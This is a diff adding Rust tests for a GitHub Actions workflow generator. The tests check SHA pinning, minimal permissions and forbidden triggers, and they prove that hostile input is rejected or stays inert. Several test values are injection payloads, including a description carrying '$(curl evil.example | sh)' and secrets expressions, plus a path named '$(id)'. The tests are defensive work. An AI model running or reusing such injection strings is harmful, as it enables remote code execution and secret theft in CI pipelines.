@@ -1,0 +1,299 @@
+//! Properties every generated workflow must have, checked on every golden case and example,
+//! and the proof that hostile input is rejected or stays inert.
+//!
+//! Runs the real front end (through `platform-driver`, a dev-dependency only) and this
+//! backend alone, then reads the YAML back.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use platform_driver::{Frontend, Inputs};
+use platform_ir::{Diagnostic, FileId};
+use platform_syntax::yaml::{self, Kind, Node};
+
+fn repo() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").canonicalize().unwrap()
+}
+
+fn load(root: &Path) -> Frontend {
+    platform_driver::load(&Inputs { root: root.to_path_buf(), org: None })
+        .unwrap_or_else(|e| panic!("{}: {e}", root.display()))
+}
+
+/// This backend's files (by output path) and every diagnostic of the build.
+fn build(root: &Path) -> (BTreeMap<String, String>, Vec<Diagnostic>) {
+    let fe = load(root);
+    let mut diags = fe.diagnostics.clone();
+    if fe.has_errors() {
+        return (BTreeMap::new(), diags);
+    }
+    let backends = platform_driver::select(&["github-actions".to_owned()]).unwrap();
+    let files = std::sync::Mutex::new(BTreeMap::new());
+    let (backend_diags, res) = platform_driver::emit(&fe, &backends, &|p, b| {
+        files.lock().unwrap().insert(p.as_str().to_owned(), String::from_utf8(b.to_vec()).unwrap());
+        Ok::<(), ()>(())
+    });
+    res.unwrap();
+    diags.extend(backend_diags);
+    (files.into_inner().unwrap(), diags)
+}
+
+fn cases() -> Vec<PathBuf> {
+    let mut out = Vec::new();
+    for dir in [repo().join("golden-tests/ok"), repo().join("examples")] {
+        let mut v: Vec<PathBuf> =
+            std::fs::read_dir(&dir).unwrap().flatten().map(|e| e.path()).filter(|p| p.is_dir()).collect();
+        v.sort();
+        out.extend(v.into_iter().map(|p| if p.join("input").is_dir() { p.join("input") } else { p }));
+    }
+    out
+}
+
+fn get<'a>(n: &'a Node, key: &str) -> Option<&'a Node> {
+    match &n.kind {
+        Kind::Map(entries) => entries.iter().find(|(k, _)| k.name == key).map(|(_, v)| v),
+        _ => None,
+    }
+}
+
+fn entries(n: &Node) -> Vec<(&str, &Node)> {
+    match &n.kind {
+        Kind::Map(entries) => entries.iter().map(|(k, v)| (k.name.as_str(), v)).collect(),
+        _ => Vec::new(),
+    }
+}
+
+fn items(n: &Node) -> &[Node] {
+    match &n.kind {
+        Kind::Seq(items) => items,
+        _ => &[],
+    }
+}
+
+fn text(n: &Node) -> String {
+    match &n.kind {
+        Kind::Str(s) => s.clone(),
+        Kind::Bool(b) => b.to_string(),
+        Kind::Int(_, s) | Kind::Float(_, s) => s.clone(),
+        _ => String::new(),
+    }
+}
+
+/// Every `(key, value)` pair below `n`, depth first.
+fn walk<'a>(n: &'a Node, out: &mut Vec<(&'a str, &'a Node)>) {
+    match &n.kind {
+        Kind::Map(entries) => {
+            for (k, v) in entries {
+                out.push((&k.name, v));
+                walk(v, out);
+            }
+        }
+        Kind::Seq(items) => items.iter().for_each(|i| walk(i, out)),
+        _ => {}
+    }
+}
+
+fn is_pinned(uses: &str) -> bool {
+    let Some((repo, sha)) = uses.split_once('@') else { return false };
+    repo.split('/').count() >= 2
+        && sha.len() == 40
+        && sha.bytes().all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
+}
+
+#[test]
+fn every_workflow_is_locked_down() {
+    let mut checked = 0;
+    for case in cases() {
+        let (files, diags) = build(&case);
+        assert!(!diags.iter().any(Diagnostic::is_error), "{}: {diags:#?}", case.display());
+        let docs: BTreeMap<&str, Node> = files
+            .iter()
+            .filter(|(p, _)| p.contains("/github-actions/workflows/"))
+            .map(|(p, t)| (p.as_str(), yaml::parse(t, FileId(0)).unwrap_or_else(|d| panic!("{p}: {}", d.message))))
+            .collect();
+        let reusable: BTreeMap<String, &Node> = docs
+            .iter()
+            .filter(|(p, _)| p.starts_with("_org/"))
+            .map(|(p, d)| (p.rsplit('/').next().unwrap().to_owned(), d))
+            .collect();
+        assert_eq!(reusable.len(), 7, "{}", case.display());
+        for (path, doc) in &docs {
+            let raw = &files[*path];
+            let at = format!("{}: {path}", case.display());
+            assert!(raw.lines().any(|l| l == "on:"), "{at}: `on:` must be a plain key");
+            assert!(get(doc, "on").is_some() && get(doc, "name").is_some(), "{at}");
+            let perms = get(doc, "permissions").unwrap_or_else(|| panic!("{at}: no top-level permissions"));
+            assert!(
+                entries(perms).is_empty() && matches!(perms.kind, Kind::Map(_)),
+                "{at}: top-level permissions must be {{}}"
+            );
+            let on = get(doc, "on").unwrap();
+            for trigger in ["pull_request_target", "workflow_run", "issue_comment"] {
+                assert!(get(on, trigger).is_none(), "{at}: dangerous trigger {trigger}");
+            }
+            if let Some(d) = get(on, "workflow_dispatch") {
+                assert!(get(d, "inputs").is_none(), "{at}: dispatch inputs (checkov CKV_GHA_7)");
+            }
+            for (id, job) in entries(get(doc, "jobs").unwrap()) {
+                assert!(get(job, "permissions").is_some(), "{at}: job {id} has no permissions");
+                assert!(get(job, "name").is_some(), "{at}: job {id} has no name");
+                if let Some(uses) = get(job, "uses") {
+                    let target = text(uses);
+                    let file = target.strip_prefix("./.github/workflows/").unwrap_or_else(|| panic!("{at}: {target}"));
+                    let callee = reusable.get(file).unwrap_or_else(|| panic!("{at}: calls unknown {file}"));
+                    check_call(&at, id, job, callee);
+                }
+                if let Some(c) = get(job, "concurrency").filter(|_| id.starts_with("deploy-")) {
+                    assert_eq!(text(get(c, "cancel-in-progress").unwrap()), "false", "{at}: {id}");
+                }
+                for step in get(job, "steps").map(items).unwrap_or_default() {
+                    assert!(get(step, "name").is_some(), "{at}: {id}: unnamed step");
+                    if let Some(run) = get(step, "run") {
+                        assert!(!text(run).contains("${{"), "{at}: {id}: expression inside run:");
+                    }
+                    if let Some(uses) = get(step, "uses") {
+                        let u = text(uses);
+                        assert!(is_pinned(&u), "{at}: {id}: `{u}` is not pinned by SHA");
+                        let line = raw.lines().find(|l| l.trim_start().starts_with(&format!("uses: {u}"))).unwrap();
+                        assert!(line.contains(&format!("{u} # v")), "{at}: `{line}` has no version comment");
+                        if u.starts_with("actions/checkout@") {
+                            let with = get(step, "with").unwrap();
+                            assert_eq!(text(get(with, "persist-credentials").unwrap()), "false", "{at}");
+                        }
+                    }
+                }
+            }
+            let mut all = Vec::new();
+            walk(doc, &mut all);
+            for (k, v) in all {
+                assert!(!(k == "secrets" && text(v) == "inherit"), "{at}: secrets: inherit");
+            }
+            checked += 1;
+        }
+    }
+    assert!(checked > 30, "only {checked} workflows checked");
+}
+
+/// A caller passes exactly the inputs its reusable workflow declares, only secrets it
+/// declares, and grants at least the permissions every job of it asks for.
+fn check_call(at: &str, id: &str, job: &Node, callee: &Node) {
+    let call = get(get(callee, "on").unwrap(), "workflow_call").unwrap();
+    let declared: Vec<&str> =
+        get(call, "inputs").map(entries).unwrap_or_default().into_iter().map(|(k, _)| k).collect();
+    let passed: Vec<&str> = get(job, "with").map(entries).unwrap_or_default().into_iter().map(|(k, _)| k).collect();
+    assert_eq!(declared, passed, "{at}: {id}: inputs differ from the callee's");
+    let secrets: Vec<&str> =
+        get(call, "secrets").map(entries).unwrap_or_default().into_iter().map(|(k, _)| k).collect();
+    for (s, _) in get(job, "secrets").map(entries).unwrap_or_default() {
+        assert!(secrets.contains(&s), "{at}: {id}: passes undeclared secret {s}");
+    }
+    let granted: BTreeMap<&str, String> =
+        entries(get(job, "permissions").unwrap()).into_iter().map(|(k, v)| (k, text(v))).collect();
+    for (cid, cjob) in entries(get(callee, "jobs").unwrap()) {
+        for (scope, level) in entries(get(cjob, "permissions").unwrap()) {
+            let ok = matches!(
+                (granted.get(scope).map(String::as_str), text(level).as_str()),
+                (Some("write"), _) | (Some("read"), "read")
+            );
+            assert!(ok, "{at}: {id} does not grant {scope}: {} that the callee's job {cid} needs", text(level));
+        }
+    }
+}
+
+/// A scratch repository under the system temp directory, removed on drop.
+struct Scratch(PathBuf);
+
+impl Scratch {
+    fn new(name: &str, files: &[(&str, &str)]) -> Self {
+        let dir = std::env::temp_dir().join(format!("gha-test-{}-{name}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&dir);
+        for (rel, text) in files {
+            let p = dir.join(rel);
+            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+            std::fs::write(p, text).unwrap();
+        }
+        Scratch(dir)
+    }
+}
+
+impl Drop for Scratch {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+const SERVICE: &str = "kind: Service\nmetadata:\n  name: NAME\n  team: shop\n  tier: standard\n  description: DESCRIPTION\nspec:\n  language: go\n  monitoring:\n    slo: 99.9\n";
+
+fn service(name: &str, description: &str) -> String {
+    SERVICE.replace("NAME", name).replace("DESCRIPTION", description)
+}
+
+fn codes(diags: &[Diagnostic]) -> Vec<&'static str> {
+    let mut c: Vec<&str> = diags.iter().filter(|d| d.is_error()).map(|d| d.code.id).collect();
+    c.sort();
+    c.dedup();
+    c
+}
+
+#[test]
+fn service_paths_with_spaces_or_glob_characters_are_rejected() {
+    for dir in
+        ["services/pay ment", "services/[ab]pi", "services/a*", "services/a{b,c}", "services/$(id)", "services/a'b"]
+    {
+        let s = Scratch::new("paths", &[(&format!("{dir}/platform.yaml"), &service("pay-api", "x"))]);
+        let (files, diags) = build(&s.0);
+        assert_eq!(codes(&diags), ["GHA003"], "{dir}: {diags:#?}");
+        let d = diags.iter().find(|d| d.code.id == "GHA003").unwrap();
+        assert!(d.message.contains("pay-api"), "{}", d.message);
+        drop(files);
+    }
+}
+
+#[test]
+fn hostile_descriptions_never_reach_a_workflow() {
+    let hostile = "\"${{ secrets.AWS_SECRET_ACCESS_KEY }}\" $(curl evil.example | sh) `id`; echo pwned";
+    let s = Scratch::new(
+        "descriptions",
+        &[("services/pay-api/platform.yaml", &service("pay-api", &format!("'{}'", hostile.replace('\'', "''"))))],
+    );
+    let (files, diags) = build(&s.0);
+    assert!(!diags.iter().any(Diagnostic::is_error), "{diags:#?}");
+    for (p, t) in &files {
+        assert!(
+            !t.contains("secrets.AWS_SECRET_ACCESS_KEY") && !t.contains("evil.example") && !t.contains("pwned"),
+            "{p}"
+        );
+    }
+    assert!(files.keys().any(|p| p == "pay-api/github-actions/workflows/pay-api.yml"));
+}
+
+#[test]
+fn org_values_that_read_as_expressions_are_rejected() {
+    let org = std::fs::read_to_string(repo().join("examples/monorepo/platform-org.yaml")).unwrap();
+    let org = org.replace("cluster: acme-production", "cluster: \"prod-${{ secrets.AWS_KEY }}\"");
+    let org = org.replace("grafanaUrl: https://grafana.acme.dev", "grafanaUrl: https://grafana.acme.dev/$(id)");
+    let s = Scratch::new(
+        "org",
+        &[("platform-org.yaml", &org), ("services/pay-api/platform.yaml", &service("pay-api", "x"))],
+    );
+    let (_, diags) = build(&s.0);
+    let gha: Vec<&Diagnostic> = diags.iter().filter(|d| d.code.id == "GHA004").collect();
+    assert!(gha.len() >= 2, "{diags:#?}");
+    assert!(gha.iter().any(|d| d.message.contains("secrets.AWS_KEY")), "{gha:#?}");
+}
+
+#[test]
+fn workflow_file_names_must_not_collide() {
+    let canary = "kind: Service\nmetadata:\n  name: shop\n  team: shop\n  tier: standard\nspec:\n  language: go\n  monitoring:\n    slo: 99.9\n  deployment:\n    canary: true\n";
+    let s = Scratch::new(
+        "collide",
+        &[
+            ("services/shop/platform.yaml", canary),
+            ("services/shop-promote/platform.yaml", &service("shop-promote", "x")),
+            ("services/platform-build/platform.yaml", &service("platform-build", "x")),
+        ],
+    );
+    let (_, diags) = build(&s.0);
+    let msgs: Vec<&str> = diags.iter().filter(|d| d.code.id == "GHA005").map(|d| d.message.as_str()).collect();
+    assert_eq!(msgs.len(), 2, "{diags:#?}");
+}
